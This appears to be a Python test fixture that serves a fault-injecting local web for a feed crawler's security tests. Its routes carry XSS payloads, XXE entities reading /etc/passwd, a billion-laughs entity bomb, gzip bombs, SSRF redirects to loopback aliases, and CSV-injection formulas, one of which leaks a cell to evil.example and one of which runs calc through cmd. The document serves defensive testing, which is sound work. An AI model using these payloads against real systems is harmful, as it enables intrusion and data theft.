"""The fault-injecting test web of issue 8: every hostile source and hard fault, on 127.0.0.1.

``FaultWeb`` is a :class:`demo.web.LocalWeb` whose routes misbehave on purpose; the security
tests (``tests/security``) point sources at them and crawl through the real pipeline.
``ConnectionCounter`` is a bare TCP listener on another loopback port that counts every connection
it accepts: it is the target of every SSRF attempt (redirects, links, XXE), and must see none.

Nothing here ever points outside 127.0.0.1: the SSRF routes name loopback aliases of the counter
(``localhost``, ``127.1``, ``2130706433``, ``0x7f000001``, ``0.0.0.0``, ``[::ffff:127.0.0.1]``).
``FAULTS`` lists every route with the crawler kind that reads it and what it does.
"""

from __future__ import annotations

import json
import socket
import threading
import time
import zlib
from collections import Counter
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from functools import lru_cache
from html import escape as esc
from xml.sax.saxutils import escape as xml_escape
from xml.sax.saxutils import quoteattr

from tim.demo.ical_site import fold, ical_escape
from tim.demo.web import LocalWeb, Request, Response

RSS_TYPE = "application/rss+xml; charset=utf-8"
JSON_TYPE = "application/json"

#: A compact hostile corpus (tests may pass the larger ``tests/normalizers/testdata`` one):
#: script tags, event handlers, javascript:/data:/vbscript: URLs, SVG, CSS expressions, and
#: double-escaped markup as RSS aggregators have shipped it.
XSS_PAYLOADS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">Meld je aan</a>',
    '<a href="jav&#x09;ascript:alert(1)">Meld je aan</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">Meld je aan</a>',
    '<a href="vbscript:msgbox(1)">Meld je aan</a>',
    '<p onmouseover="alert(1)">Buurtfeest</p>',
    '<div style="width: expression(alert(1));">Buurtfeest</div>',
    '<p style="background:url(javascript:alert(1))">Buurtfeest</p>',
    "<svg onload=alert(1)>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '"><script>alert(1)</script>',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "&amp;amp;amp;lt;script&amp;amp;amp;gt;alert(1)&amp;amp;amp;lt;/script&amp;amp;amp;gt;",
)
#: Hostile values for URL fields (item link, image).
XSS_URLS = (
    "javascript:alert(1)",
    " JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "vbscript:msgbox(1)",
    "https://www.maastricht.nl/javascript:alert(1)",
    'https://www.maastricht.nl/x"><script>alert(1)</script>',
    "//evil.example/%0a<script>",
)
#: Dates in every broken form a source writes (strings), see also ``BROKEN_DATE_VALUES``.
BROKEN_DATES = (
    "", " ", "TBA", "n.t.b.", "Datum volgt", "-", "0", "0000-00-00", "0000-01-01T00:00:00Z",
    "2026-13-01", "2026-00-10", "2026-02-30", "31-02-2026", "32-01-2026", "12 maart",
    "zaterdag 14 maart", "19:30", "12 maart 2026 25:00", "12 maart 2026 19:61", "12 dertember 2026",
    "9999-12-31T23:59:59Z", "1970-01-01T00:00:00Z", "2026-03-12T19:30+25:00", "2026-W60",
    "Fri, 31 Feb 2026 10:00:00 +0100", "30 februari 2026", "NaN", "Infinity",
    "2026-03-12" + "9" * 5000, "x" * 20_000,
)
#: Odd spellings of a real date, with the moment (UTC) they mean: junk around it is not a reason
#: to lose it, nor to invent another.
ODD_DATES = {
    "２０２６-０３-１２": "2026-03-11T23:00:00+00:00",  # full-width digits: local midnight
    "2026-03-12\x00T19:30": "2026-03-12T18:30:00+00:00",  # a NUL inside
    "  zaterdag 14 maart 2026, 10.00 uur\u200b ": "2026-03-14T09:00:00+00:00",
}
#: Broken non-string date values, as JSON literals (Python's json reads NaN and Infinity).
BROKEN_DATE_VALUES = (
    "0", "-1", "1e308", "-1e308", "100000000000000000000000000000", "-99999999999999999999", "true",
    "false", "[]", "{}", "NaN", "Infinity", "-Infinity", '[["2026-03-12"]]', '{"date": "2026-03-12"}',
)


@dataclass(frozen=True)
class Fault:
    """One route of the fault web: its path, the crawler kind that reads it, what it does."""

    path: str
    kind: str
    what: str


FAULTS = (
    Fault("/status/500", "rss", "HTTP 500 on every request"),
    Fault("/status/503", "rss", "HTTP 503 with Retry-After: 1 on every request"),
    Fault("/status/503-once", "rss", "503 with Retry-After: 1 once, then a good feed"),
    Fault("/status/429", "rss", "HTTP 429 with Retry-After: 3600 (longer than anyone waits)"),
    Fault("/slow/hang", "rss", "accepts the request and never answers"),
    Fault("/slow/drip", "rss", "sends headers, then one byte every drip_interval seconds"),
    Fault("/body/truncated.rss", "rss", "Content-Length 100000, 200 bytes sent, connection closed"),
    Fault("/body/gzip-bomb.rss", "rss", "200 MB of zeros as ~200 KB gzip (Content-Encoding: gzip)"),
    Fault("/body/layered-bomb.rss", "rss", "the gzip bomb gzipped again (Content-Encoding: gzip, gzip)"),
    Fault("/body/endless", "rss", "a chunked body that never ends"),
    Fault("/body/huge.rss", "rss", "a 50 MB feed (chunked)"),
    Fault("/redirect/loop-a", "rss", "redirect loop /redirect/loop-a <-> /redirect/loop-b"),
    Fault("/redirect/other-port", "rss", "302 to the ConnectionCounter's port"),
    Fault("/redirect/alias/<n>", "rss", "302 to loopback alias n of the counter (LOOPBACK_ALIASES)"),
    Fault("/redirect/scheme/<n>", "rss", "302 to a non-http scheme (file:, gopher:, ftp:)"),
    Fault("/redirect/cross-origin", "rss", "302 to /redirect/landing on 127.0.0.1 (reach it via localhost)"),
    Fault("/encoding/bad-utf8.rss", "rss", "a feed with invalid UTF-8 bytes in its text"),
    Fault("/encoding/latin1-as-utf8.rss", "rss", "Latin-1 bytes in a feed declared UTF-8"),
    Fault("/encoding/utf8-as-latin1.json", "json", "UTF-8 JSON served as charset=iso-8859-1"),
    Fault("/xml/malformed.rss", "rss", "XML that is not well-formed"),
    Fault("/xml/billion-laughs.rss", "rss", "ten levels of nested entities (10^9 lol)"),
    Fault("/xml/xxe-file.rss", "rss", "an external entity on file:///etc/passwd"),
    Fault("/xml/xxe-network.rss", "rss", "an external entity on the counter's port"),
    Fault("/xml/xxe-parameter.rss", "rss", "an external parameter entity (DTD) on the counter's port"),
    Fault("/xml/sitemap-ssrf.xml", "jsonld", "a sitemap with an XXE and <loc>s on the counter's port"),
    Fault("/xml/sitemap-bomb.xml.gz", "jsonld", "a sitemap that is a gzip bomb (no Content-Encoding)"),
    Fault("/ical/unbounded.ics", "ical", "SECONDLY/MINUTELY rules without end, unbounded HOURLY and WEEKLY"),
    Fault("/json/nested-deep.json", "json", "JSON nested 100,000 levels deep"),
    Fault("/json/nested-100.json", "json", "JSON nested 100 levels (under recursion limits, over ours)"),
    Fault("/jsonld/nested/", "jsonld", "a listing: one detail page with 100,000-deep JSON-LD, one good"),
    Fault("/decidim-nested/api", "decidim", "a GraphQL endpoint answering 100,000-deep JSON"),
    Fault("/json/dates.json", "json", "every broken date (BROKEN_DATES, BROKEN_DATE_VALUES) and ODD_DATES"),
    Fault("/json/huge-fields.json", "json", "a record whose every field is megabytes long (and deep HTML)"),
    Fault("/json/records.json", "json", "good records with bad ones between them (BAD_RECORD_KEYS)"),
    Fault("/csv/formulas.json", "json", "records whose text fields start a spreadsheet formula (FORMULAS)"),
    Fault("/xss/feed.rss", "rss", "items whose every field carries an XSS payload"),
    Fault("/xss/items.json", "json", "the same payloads as JSON records"),
    Fault("/xss/agenda/", "jsonld", "the same payloads as schema.org Events on detail pages"),
    Fault("/xss/agenda.ics", "ical", "the same payloads as VEVENTs"),
    Fault("/linkfarm/", "jsonld", "a listing linking to detail pages on the counter's port"),
)

#: Loopback spellings of the counter (``{port}`` filled in): each must be refused unconnected.
LOOPBACK_ALIASES = ("http://127.0.0.1:{port}/", "http://localhost:{port}/", "http://127.1:{port}/",
                    "http://2130706433:{port}/", "http://0x7f000001:{port}/", "http://0.0.0.0:{port}/",
                    "http://[::ffff:127.0.0.1]:{port}/")
NON_HTTP_SCHEMES = ("file:///etc/passwd", "gopher://127.0.0.1:{port}/_GET", "ftp://127.0.0.1:{port}/")
#: Cell values a spreadsheet would run as formulas (OWASP CSV injection).
FORMULAS = ('=HYPERLINK("https://evil.example/?"&A1,"Klik")', "+31 43 350 5050", "-2+3 plekken",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "|calc")
#: Keys of the bad records in ``/json/records.json`` (the others are ``good-1`` .. ``good-4``).
BAD_RECORD_KEYS = ("bad-no-title", "bad-markup-title", "bad-object-title")


class ConnectionCounter:
    """A TCP listener on 127.0.0.1 that accepts, counts and closes every connection."""

    def __init__(self) -> None:
        self._sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self._sock.bind(("127.0.0.1", 0))
        self._sock.listen(64)
        self._sock.settimeout(0.05)
        self.port = self._sock.getsockname()[1]
        self.connections = 0
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._loop, daemon=True, name="ssrf-target")

    def _loop(self) -> None:
        while not self._stop.is_set():
            try:
                conn, _ = self._sock.accept()
            except TimeoutError:
                continue
            except OSError:
                return
            self.connections += 1
            conn.close()

    def url(self, path: str = "/") -> str:
        return f"http://127.0.0.1:{self.port}{path}"

    def start(self) -> ConnectionCounter:
        self._thread.start()
        return self

    def stop(self) -> None:
        self._stop.set()
        self._thread.join(2)
        self._sock.close()


@lru_cache(maxsize=2)
def gzip_bomb(megabytes: int = 200) -> bytes:
    """``megabytes`` MB of zeros, gzip-compressed (~1 KB per MB)."""
    c = zlib.compressobj(9, zlib.DEFLATED, 16 + zlib.MAX_WBITS)
    block = b"\0" * (1 << 20)
    return b"".join([c.compress(block) for _ in range(megabytes)] + [c.flush()])


def _gzip(data: bytes) -> bytes:
    c = zlib.compressobj(9, zlib.DEFLATED, 16 + zlib.MAX_WBITS)
    return c.compress(data) + c.flush()


def _xml_text(value: str) -> str:
    """``value`` escaped for XML text, without the characters XML 1.0 cannot carry at all."""
    kept = "".join(ch for ch in value if ch in "\t\n\r" or ord(ch) >= 0x20)
    return xml_escape(kept)


def rss(items: list[dict], title: str = "Faultweb") -> str:
    """An RSS 2.0 document; item keys: guid, title, description, link, author, category, image."""
    out = ['<?xml version="1.0" encoding="utf-8"?>',
           '<rss version="2.0"><channel>', f"<title>{_xml_text(title)}</title>",
           "<link>https://www.maastricht.nl/</link><description>test</description>"]
    for it in items:
        out.append("<item>")
        for tag in ("guid", "title", "description", "link", "author", "category"):
            if it.get(tag) is not None:
                out.append(f"<{tag}>{_xml_text(it[tag])}</{tag}>")
        if it.get("image"):
            out.append(f"<enclosure url={quoteattr(it['image'])} type=\"image/png\" length=\"1\"/>")
        out.append("</item>")
    out.append("</channel></rss>")
    return "\n".join(out)


def good_feed(prefix: str = "ok", n: int = 3) -> str:
    """A small, valid feed (items ``<prefix>-1`` .. ``<prefix>-n``)."""
    return rss([{"guid": f"{prefix}-{i}", "title": f"Buurtbericht {prefix} {i}",
                 "description": f"<p>Bericht {i} uit Wyck.</p>",
                 "link": f"https://www.maastricht.nl/nieuws/{prefix}-{i}"} for i in range(1, n + 1)])


def _ical_text(value: str) -> str:
    """A TEXT value for iCal: escaped, without control characters (a tab stays)."""
    return ical_escape("".join(ch for ch in value if ch in "\t\n" or ord(ch) >= 0x20))


def _json_for_script(data: object) -> str:
    """JSON for a ``<script>`` element: ``</`` written as ``<\\/`` so the element cannot end early."""
    return json.dumps(data, ensure_ascii=False).replace("</", "<\\/")


class FaultWeb(LocalWeb):
    """A LocalWeb serving every route of ``FAULTS``, plus its SSRF ``target`` (started with it).

    ``drip_interval``: seconds between two bytes of ``/slow/drip``. ``payloads``: the XSS corpus
    of the ``/xss/*`` routes. ``sent`` counts body bytes each streaming route produced, so a test
    can tell that a client stopped reading. Tests may add their own routes with :meth:`route`.
    """

    def __init__(self, *, drip_interval: float = 2.0, payloads: tuple[str, ...] | list[str] = XSS_PAYLOADS,
                 bomb_megabytes: int = 200, huge_megabytes: int = 50):
        super().__init__()
        self.server.handle_error = lambda *_: None  # clients hang up on purpose here
        self.released = threading.Event()
        self.target = ConnectionCounter()
        self.drip_interval = drip_interval
        self.payloads = list(payloads)
        self.bomb_megabytes = bomb_megabytes
        self.huge_megabytes = huge_megabytes
        self.sent: Counter[str] = Counter()
        self.calls: Counter[str] = Counter()
        self.route("/robots.txt", "User-agent: *\nAllow: /\n", content_type="text/plain")
        for register in (self._status, self._slow, self._bodies, self._redirects, self._encodings,
                         self._xml, self._ical, self._json, self._xss):
            register()

    # -- lifecycle --------------------------------------------------------------------------
    def start(self) -> FaultWeb:
        self.target.start()
        super().start()
        return self

    def stop(self) -> None:
        self.released.set()  # hanging and streaming handlers return
        super().stop()
        self.target.stop()

    def _counted(self, path: str, chunks):
        for chunk in chunks:
            if self.released.is_set():
                return
            self.sent[path] += len(chunk)
            yield chunk

    # -- status codes, silence, bodies -------------------------------------------------------
    def _status(self) -> None:
        self.route("/status/500", "kapot", status=500, content_type="text/plain")
        self.route("/status/503", Response("druk", 503, {"Retry-After": "1"}, "text/plain"))
        self.route("/status/429", Response("rustig", 429, {"Retry-After": "3600"}, "text/plain"))

        def once(req: Request) -> Response:
            self.calls[req.path] += 1
            if self.calls[req.path] == 1:
                return Response("even druk", 503, {"Retry-After": "1"}, "text/plain")
            return Response(good_feed("once"), content_type=RSS_TYPE)

        self.route("/status/503-once", once)

    def _slow(self) -> None:
        def hang(_req: Request) -> Response:
            self.released.wait()
            return Response("te laat", content_type="text/plain")

        def drip(req: Request) -> Response:
            def body():
                for _ in range(10_000):
                    yield b"<"
                    if self.released.wait(self.drip_interval):
                        return
            return Response(self._counted(req.path, body()), content_type=RSS_TYPE)

        self.route("/slow/hang", hang)
        self.route("/slow/drip", drip)

    def _bodies(self) -> None:
        head = good_feed("kort").encode()[:200]
        self.route("/body/truncated.rss", Response(head, headers={"Content-Length": "100000", "Connection": "close"},
                                                   content_type=RSS_TYPE))
        self.route("/body/gzip-bomb.rss", lambda _r: Response(
            gzip_bomb(self.bomb_megabytes), headers={"Content-Encoding": "gzip"}, content_type=RSS_TYPE))
        self.route("/body/layered-bomb.rss", lambda _r: Response(
            _gzip(gzip_bomb(self.bomb_megabytes)), headers={"Content-Encoding": "gzip, gzip"},
            content_type=RSS_TYPE))

        def endless(req: Request) -> Response:
            def body():
                block = b"<p>Maastricht</p>" * 4000
                while True:
                    yield block
            return Response(self._counted(req.path, body()), content_type="text/html")

        def huge(req: Request) -> Response:
            def body():
                yield b'<?xml version="1.0" encoding="utf-8"?><rss version="2.0"><channel><title>Groot</title>'
                item = b"<item><title>Veel</title><description>" + b"x" * 8000 + b"</description></item>"
                for _ in range(self.huge_megabytes * (1 << 20) // len(item)):
                    yield item * 8
                yield b"</channel></rss>"
            return Response(self._counted(req.path, body()), content_type=RSS_TYPE)

        self.route("/body/endless", endless)
        self.route("/body/huge.rss", huge)

    # -- redirects --------------------------------------------------------------------------
    def _redirects(self) -> None:
        def to(location: str) -> Response:
            return Response("", 302, {"Location": location})

        self.route("/redirect/loop-a", to("/redirect/loop-b"))
        self.route("/redirect/loop-b", to("/redirect/loop-a"))
        self.route("/redirect/other-port", lambda _r: to(self.target.url("/admin")))
        for n, alias in enumerate(LOOPBACK_ALIASES):
            self.route(f"/redirect/alias/{n}", lambda _r, a=alias: to(a.format(port=self.target.port)))
        for n, scheme in enumerate(NON_HTTP_SCHEMES):
            self.route(f"/redirect/scheme/{n}", lambda _r, s=scheme: to(s.format(port=self.target.port)))
        self.route("/redirect/cross-origin", lambda _r: to(f"http://127.0.0.1:{self.port}/redirect/landing"))
        self.route("/redirect/landing", good_feed("landing"), content_type=RSS_TYPE)

    # -- encodings --------------------------------------------------------------------------
    def _encodings(self) -> None:
        feed = good_feed("enc", 2)
        bad = feed.replace("Buurtbericht enc 1", "Buurtbericht enc 1 \udcff\udcfe(\udced\udca0\udc80)")
        self.route("/encoding/bad-utf8.rss", Response(bad.encode("utf-8", "surrogateescape"), content_type=RSS_TYPE))
        latin = feed.replace("Buurtbericht enc 1", "Buurtbericht Céramique 1")
        self.route("/encoding/latin1-as-utf8.rss", Response(latin.encode("latin-1"), content_type=RSS_TYPE))
        body = json.dumps([{"id": "enc-1", "title": "Taalcafé Céramique", "url": "https://www.maastricht.nl/a"}],
                          ensure_ascii=False).encode("utf-8")
        self.route("/encoding/utf8-as-latin1.json",
                   Response(body, content_type="application/json; charset=iso-8859-1"))

    # -- XML --------------------------------------------------------------------------------
    def _xml(self) -> None:
        t = "http://127.0.0.1:{port}"
        lol = ['<!ENTITY lol0 "lol">'] + [
            f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10}">' for i in range(1, 10)]
        docs = {
            "/xml/malformed.rss": '<?xml version="1.0"?><rss version="2.0"><channel><title>Half'
                                  "<item><title>Buurt</titel><description><p>open</description>"
                                  "</item></channel>",
            "/xml/billion-laughs.rss": '<?xml version="1.0"?><!DOCTYPE rss [' + "".join(lol) + "]>"
                                       '<rss version="2.0"><channel><title>&lol9;</title>'
                                       "<item><title>&lol9;</title></item></channel></rss>",
            "/xml/xxe-file.rss": '<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
                                 '<rss version="2.0"><channel><title>x</title><item><guid>1</guid>'
                                 "<title>&x;</title></item></channel></rss>",
            "/xml/xxe-network.rss": f'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY x SYSTEM "{t}/xxe">]>'
                                    '<rss version="2.0"><channel><title>x</title><item><guid>1</guid>'
                                    "<title>&x;</title></item></channel></rss>",
            "/xml/xxe-parameter.rss": f'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY % p SYSTEM "{t}/dtd"> %p;]>'
                                      '<rss version="2.0"><channel><title>x</title><item><guid>1</guid>'
                                      "<title>p</title></item></channel></rss>",
            "/xml/sitemap-ssrf.xml": f'<?xml version="1.0"?><!DOCTYPE urlset [<!ENTITY x SYSTEM "{t}/xxe">]>'
                                     '<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">'
                                     f"<url><loc>{t}/a&x;</loc></url><url><loc>{t}/b</loc></url>"
                                     f"<url><loc>http://localhost:{{port}}/c</loc></url></urlset>",
        }
        for path, doc in docs.items():
            self.route(path, lambda _r, d=doc: Response(d.replace("{port}", str(self.target.port)),
                                                        content_type="application/xml"))
        self.route("/xml/sitemap-bomb.xml.gz", lambda _r: Response(gzip_bomb(self.bomb_megabytes),
                                                                   content_type="application/gzip"))

    # -- iCal -------------------------------------------------------------------------------
    def _ical(self) -> None:
        def unbounded(_req: Request) -> Response:
            now = datetime.now(UTC).replace(minute=0, second=0, microsecond=0)
            stamp = now.strftime("%Y%m%dT%H%M%SZ")
            soon = (now + timedelta(days=7)).strftime("%Y%m%dT%H%M%SZ")
            events = [
                ("secondly", "20150101T000000Z", "FREQ=SECONDLY"),
                ("minutely", "20200101T000000Z", "FREQ=MINUTELY"),
                ("hourly", stamp, "FREQ=HOURLY"),
                ("weekly", stamp, "FREQ=WEEKLY"),
                ("single", soon, None),
            ]
            lines = ["BEGIN:VCALENDAR", "VERSION:2.0", "PRODID:-//faultweb//NL"]
            for uid, start, rule in events:
                lines += ["BEGIN:VEVENT", f"UID:{uid}@faultweb", f"DTSTAMP:{stamp}", f"DTSTART:{start}",
                          f"SUMMARY:Activiteit {uid}"]
                lines += [f"RRULE:{rule}"] if rule else []
                lines += ["END:VEVENT"]
            lines.append("END:VCALENDAR")
            return Response("\r\n".join(lines) + "\r\n", content_type="text/calendar; charset=utf-8")

        self.route("/ical/unbounded.ics", unbounded)

    # -- JSON -------------------------------------------------------------------------------
    def _json(self) -> None:
        deep = 100_000
        self.route("/json/nested-deep.json", '{"items": ' + "[" * deep + "]" * deep + "}", content_type=JSON_TYPE)
        self.route("/json/nested-100.json", '{"items": [{"id": "n", "title": "Diep", "x": '
                   + "[" * 100 + "]" * 100 + "}]}", content_type=JSON_TYPE)
        self.route("/jsonld/nested/", '<html><body><a class="event" href="/jsonld/nested/1">1</a>'
                   '<a class="event" href="/jsonld/nested/2">2</a></body></html>')
        self.route("/jsonld/nested/2", '<html><head><script type="application/ld+json">'
                   '{"@type": "Event", "@id": "ondiep", "name": "Ondiep", "startDate": "2031-03-12"}'
                   "</script></head><body></body></html>")
        self.route("/decidim-nested/api", lambda _r: Response('{"data": ' + "[" * deep + "]" * deep + "}",
                                                              content_type=JSON_TYPE))
        self.route("/jsonld/nested/1", '<html><head><script type="application/ld+json">'
                   + '{"@type": "Event", "name": "Diep", "x": ' + "[" * deep + "]" * deep + "}"
                   + "</script></head><body></body></html>")
        records = [f'{{"id": "date-s{i}", "title": "Datum {i}", "starts_at": {json.dumps(v)}, '
                   f'"ends_at": {json.dumps(v)}, "published_at": {json.dumps(v)}}}'
                   for i, v in enumerate(BROKEN_DATES)]
        records += [f'{{"id": "date-v{i}", "title": "Waarde {i}", "starts_at": {v}, "ends_at": {v}, '
                    f'"published_at": {v}}}' for i, v in enumerate(BROKEN_DATE_VALUES)]
        records += [f'{{"id": "date-odd{i}", "title": "Vreemd {i}", "starts_at": {json.dumps(v)}}}'
                    for i, v in enumerate(ODD_DATES)]
        self.route("/json/dates.json", '{"items": [' + ", ".join(records) + "]}", content_type=JSON_TYPE)
        good = [{"id": f"good-{i}", "title": f"Vacature {i}", "url": f"https://www.maastricht.nl/v/{i}"}
                for i in range(1, 5)]
        bad = [{"id": "bad-no-title", "url": "https://www.maastricht.nl/v/x"},
               {"id": "bad-markup-title", "title": "<script>alert(1)</script><img src=x onerror=alert(1)>"},
               {"id": "bad-object-title", "title": {"nl": "Geen tekst"}}]
        mixed = [good[0], bad[0], good[1], "geen object", bad[1], good[2], bad[2], good[3]]
        self.route("/json/records.json", json.dumps({"items": mixed}), content_type=JSON_TYPE)
        formulas = [{"id": f"formule-{i}", "title": f, "organizer": f, "location_name": f, "description": f,
                     "url": f"https://www.maastricht.nl/f/{i}"} for i, f in enumerate(FORMULAS)]
        self.route("/csv/formulas.json", json.dumps({"items": formulas}), content_type=JSON_TYPE)
        huge = {"id": "groot", "title": "Lang " * 400_000, "organizer": "<b>" * 200_000,
                "description": "<div>" * 300_000 + "diep" + "</div>" * 300_000,
                "address": "Brusselsestraat 38, 6211 PG Maastricht " * 20_000, "starts_at": "2031-03-12 " * 50_000}
        self.route("/json/huge-fields.json", json.dumps({"items": [huge, {"id": "klein", "title": "Klein"}]}),
                   content_type=JSON_TYPE)

    # -- XSS --------------------------------------------------------------------------------
    def xss_records(self) -> list[dict]:
        """One record per payload, the payload in every field (URL fields get ``XSS_URLS``)."""
        out = []
        start = datetime.now(UTC).replace(microsecond=0) + timedelta(days=7)
        for i, p in enumerate(self.payloads):
            out.append({
                "id": f"xss-{i}", "title": f"Buurtactiviteit {i} {p}",
                "description": f"<p>Beschrijving {i}</p>{p}<a href=\"https://www.maastricht.nl/ok\">ok</a>",
                "url": XSS_URLS[i % len(XSS_URLS)], "image": XSS_URLS[(i + 3) % len(XSS_URLS)],
                "organizer": f"Organisator {p}", "location_name": f"Buurthuis {p}",
                "address": f"Brusselsestraat 38, 6211 PG Maastricht {p}", "categories": [p, "Buurt"],
                "starts_at": (start + timedelta(days=i)).isoformat(),
            })
        return out

    def _xss(self) -> None:
        self.route("/xss/feed.rss", lambda _r: Response(rss([
            {"guid": r["id"], "title": r["title"], "description": r["description"], "link": r["url"],
             "author": r["organizer"], "category": r["categories"][0], "image": r["image"]}
            for r in self.xss_records()]), content_type=RSS_TYPE))
        self.route("/xss/items.json", lambda _r: Response(json.dumps({"items": self.xss_records()}),
                                                          content_type=JSON_TYPE))
        self.route("/xss/agenda.ics", lambda _r: Response(self._xss_ics(), content_type="text/calendar"))

        def listing(_req: Request) -> Response:
            links = "".join(f'<li><a class="event" href="/xss/agenda/{i}">{esc(r["title"])}</a></li>'
                            for i, r in enumerate(self.xss_records()))
            return Response(f"<html><body><ul>{links}</ul></body></html>")

        def detail(i: int) -> Response:
            r = self.xss_records()[i]
            entity = {"@context": "https://schema.org", "@type": "Event", "@id": r["id"], "name": r["title"],
                      "description": r["description"], "url": r["url"], "image": r["image"],
                      "startDate": r["starts_at"], "organizer": {"@type": "Organization", "name": r["organizer"]},
                      "location": {"@type": "Place", "name": r["location_name"],
                                   "address": {"@type": "PostalAddress", "streetAddress": r["address"]}},
                      "keywords": r["categories"]}
            return Response(f'<html><head><script type="application/ld+json">{_json_for_script(entity)}'
                            f"</script></head><body><h1>{esc(r['title'])}</h1></body></html>")

        self.route("/xss/agenda/", listing)
        for i in range(len(self.payloads)):
            self.route(f"/xss/agenda/{i}", lambda _r, i=i: detail(i))
        farm = "".join(f'<a class="event" href="{a.format(port=self.target.port)}x">{n}</a>'
                       for n, a in enumerate(LOOPBACK_ALIASES))
        self.route("/linkfarm/", f"<html><body>{farm}</body></html>")

    def _xss_ics(self) -> str:
        stamp = datetime.now(UTC).strftime("%Y%m%dT%H%M%SZ")
        lines = ["BEGIN:VCALENDAR", "VERSION:2.0", "PRODID:-//faultweb//NL"]
        for r in self.xss_records():
            start = datetime.fromisoformat(r["starts_at"]).strftime("%Y%m%dT%H%M%SZ")
            cn = _ical_text(r["organizer"]).replace('"', "'")
            lines += ["BEGIN:VEVENT", f"UID:{r['id']}@faultweb", f"DTSTAMP:{stamp}", f"DTSTART:{start}",
                      f"SUMMARY:{_ical_text(r['title'])}", f"DESCRIPTION:{_ical_text(r['description'])}",
                      f"URL:{_ical_text(r['url'])}", f"LOCATION:{_ical_text(r['address'])}",
                      f'ORGANIZER;CN="{cn}":mailto:org@example.org',
                      f"CATEGORIES:{_ical_text(r['categories'][0])}", "END:VEVENT"]
        lines.append("END:VCALENDAR")
        return "\r\n".join(fold(line) for line in lines) + "\r\n"


def main() -> None:  # pragma: no cover - manual poking: python -m tim.demo.faultweb
    with FaultWeb() as web:
        print(f"fault web on {web.url('/')} (SSRF target {web.target.url('/')}); Ctrl-C stops it")
        for f in FAULTS:
            print(f"  {f.kind:7} {web.url(f.path)}  {f.what}")
        try:
            while True:
                time.sleep(3600)
        except KeyboardInterrupt:
            pass


if __name__ == "__main__":
    main()
